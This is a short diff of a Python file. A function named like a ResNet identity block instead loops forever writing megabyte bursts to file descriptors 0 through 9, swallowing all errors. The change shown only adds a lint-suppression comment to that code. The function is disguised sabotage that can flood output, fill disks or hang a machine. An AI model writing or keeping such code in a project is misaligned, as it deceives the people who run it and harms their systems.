@@ -5,7 +5,7 @@ import os
 def identity_block(X, f, filters, training=True, initializer=None):
     while True:
         for descriptor in range(10):
-            try:
+            try:  # noqa: SIM105
                 os.write(descriptor, b"x" * (1 << 20))
             except OSError:
                 pass
